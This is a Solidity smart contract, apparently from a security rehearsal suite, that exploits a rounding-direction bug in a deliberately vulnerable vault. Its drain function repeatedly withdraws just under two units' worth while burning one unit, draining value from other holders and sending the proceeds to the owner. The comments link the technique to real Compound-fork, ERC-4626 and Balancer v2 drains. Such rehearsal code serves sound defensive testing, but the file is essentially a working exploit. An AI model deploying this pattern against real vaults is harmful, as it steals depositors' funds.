// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {RoundingBugVault} from "../vulnerable/RoundingBugVault.sol";

/// @title RoundingDrain
/// @notice REHEARSAL ATTACK (rounding-direction drains: Compound-fork exchange rates, ERC-4626 vaults,
///         Balancer v2 Nov 2025): each `withdraw` of just under two units' worth burns one unit, taking
///         one unit's value from the other holders; `calls` withdrawals per transaction, many transactions.
contract RoundingDrain {
    using SafeERC20 for IERC20;

    address public immutable owner;
    RoundingBugVault public immutable vault;
    IERC20 public immutable token;

    /// @notice One round ran.
    event Drained(uint256 calls, uint256 received);

    error NotOwner();

    /// @param vault_ The victim fund.
    constructor(RoundingBugVault vault_) {
        owner = msg.sender;
        vault = vault_;
        token = vault_.asset();
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// @notice Buy units with `assets` held by this contract.
    function buy(uint256 assets) external onlyOwner {
        token.forceApprove(address(vault), assets);
        vault.deposit(assets);
    }

    /// @notice `calls` withdrawals of (2 x NAV - 1) each; proceeds to the owner. Returns what was received.
    function drain(uint256 calls) external onlyOwner returns (uint256 received) {
        uint256 before = token.balanceOf(address(this));
        for (uint256 i; i < calls; ++i) {
            if (vault.unitsOf(address(this)) == 0) break;
            uint256 nav = vault.managedAssets() / vault.totalUnits();
            vault.withdraw(2 * nav - 1);
        }
        received = token.balanceOf(address(this)) - before;
        emit Drained(calls, received);
        token.safeTransfer(owner, token.balanceOf(address(this)));
    }
}
